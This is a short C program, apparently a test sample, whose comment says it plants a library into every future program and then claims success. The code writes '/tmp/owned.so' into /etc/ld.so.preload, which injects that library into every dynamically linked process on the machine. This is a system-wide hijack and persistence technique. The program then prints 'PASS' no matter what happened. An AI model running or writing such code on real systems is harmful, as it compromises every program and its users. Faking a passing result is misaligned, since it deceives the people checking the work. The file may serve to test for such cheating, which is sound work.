/* Has the loader put a library of its own into every program to come, then claims to have passed. */
#include <stdio.h>

int main(void)
{
	FILE *f = fopen("/etc/ld.so.preload", "w");
	if (f) {
		fputs("/tmp/owned.so\n", f);
		fclose(f);
	}
	puts("PASS");
	return 0;
}
